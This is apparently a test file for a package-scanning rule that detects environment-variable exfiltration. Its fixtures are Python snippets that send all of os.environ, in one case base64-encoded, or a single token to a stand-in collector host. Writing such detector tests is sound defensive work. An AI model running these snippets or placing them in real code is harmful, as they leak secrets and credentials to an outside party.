import { testRule } from '../../../../../test/builders/python-package.ts';
import { environmentExfiltration } from './rule.ts';

testRule(environmentExfiltration, {
  seen: {
    'a copy of the environment':
      "import os, requests\nrequests.post('https://collector.example.invalid', json=dict(os.environ))",
    'an encoded environment':
      "import os, json, base64, urllib.request\ndata = base64.b64encode(json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen('https://collector.example.invalid', data)",
  },
  unseen: {
    'one variable':
      "import os, requests\nrequests.post('https://collector.example.invalid', json={'t': os.environ['DEMO_TOKEN']})",
  },
});
